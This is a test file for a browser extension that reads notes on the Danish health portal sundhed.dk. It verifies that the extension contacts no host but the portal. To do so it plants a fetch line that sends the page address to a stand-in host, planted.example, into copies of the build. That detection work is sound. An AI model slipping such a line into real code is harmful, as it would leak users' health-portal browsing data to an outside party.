import { appendFile, cp, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launchWithExtension } from "../../scripts/browser/launch-with-extension.ts";
import { waitForNotes } from "../../scripts/browser/note-views.ts";
import { secureServer, type SecureServer } from "../../scripts/browser/secure-server.ts";
import { manyNotes, pageWith } from "./support/pages.ts";
import { EXTENSION, SUNDHED } from "./support/portal.ts";
import { recordingProxy } from "./support/recording-proxy.ts";

const PORTAL = "www.sundhed.dk";
/** What Chromium asks for by itself, with no extension at all, whatever it is told: updates, and whether one is signed in. */
const BROWSERS_OWN = ["update.googleapis.com", "accounts.google.com", "clients2.google.com"];
const PLANTED = `\n;fetch("https://planted.example/" + encodeURIComponent(location.href)).catch(() => {});\n`;

let server: SecureServer;
const copies: string[] = [];

beforeAll(async () => {
  const { html } = pageWith(manyNotes(3));
  server = await secureServer([PORTAL], (_, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(html);
  });
});
afterAll(async () => {
  await server.close();
  await Promise.all(copies.map((copy) => rm(copy, { recursive: true, force: true })));
});

/** Installs, reads notes, looks at popup and options; gives all that anything asked the network for besides the portal. */
async function foreignRequests(extension: string): Promise<string[]> {
  const proxy = await recordingProxy([PORTAL], server.place);
  const browser = await launchWithExtension({ extension, proxy: proxy.address, hosts: { [PORTAL]: server.place } });
  const page = await browser.context.newPage();
  await page.goto(`${SUNDHED}/note`);
  const views = await waitForNotes(page, 3);
  // One after the other: a note that grows pushes the next one's button away from under the pointer.
  for (const view of views) {
    await (await view.one(".toggle")).click();
    await view.settled();
  }
  for (const own of ["popup", "options"]) {
    const extensionPage = await browser.context.newPage();
    await extensionPage.goto(`chrome-extension://${browser.extensionId}/${own}.html`);
    await extensionPage.waitForSelector("h1");
  }
  await browser.close();
  await proxy.close();
  expect(proxy.asked).toContain(`${PORTAL}:443`);
  return proxy.asked.filter((asked) => ![PORTAL, ...BROWSERS_OWN].includes(hostOf(asked)));
}

/** Of `name:port` as CONNECT gives it, or of a whole address. */
function hostOf(asked: string): string {
  return new URL(asked.includes("//") ? asked : `https://${asked}`).hostname;
}

/** The very build, with one `fetch` planted in one of its files. */
async function plantedIn(file: string): Promise<string> {
  const copy = await mkdtemp(join(tmpdir(), "klartekst-planted-"));
  copies.push(copy);
  await cp(EXTENSION, copy, { recursive: true });
  await appendFile(join(copy, file), PLANTED);
  return copy;
}

test("reading notes asks the network for nothing but the portal's own page", async () => {
  expect(await foreignRequests(EXTENSION)).toEqual([]);
});

test("one fetch planted in a script in the page is seen", async () => {
  expect(await foreignRequests(await plantedIn("content-scripts/portal.js"))).toContain("planted.example:443");
});

test("one fetch planted in the background is stopped by the extension's own content security policy", async () => {
  expect(await foreignRequests(await plantedIn("background.js"))).toEqual([]);
});
